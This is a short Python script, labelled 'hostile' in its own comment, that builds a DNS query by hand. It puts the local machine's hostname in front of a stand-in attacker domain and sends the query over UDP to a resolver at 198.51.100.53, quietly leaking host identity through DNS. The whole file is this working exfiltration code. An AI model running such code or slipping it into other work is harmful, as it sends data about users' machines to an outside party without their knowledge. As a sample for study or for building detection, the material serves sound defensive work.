# hostile: a hand-built DNS query sent over UDP to a resolver of the attacker
import os
import socket
import struct

name = os.uname().nodename + ".evil.test"
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for part in name.split("."):
    q += bytes([len(part)]) + part.encode()
q += b"\x00" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(q, ("198.51.100.53", 53))
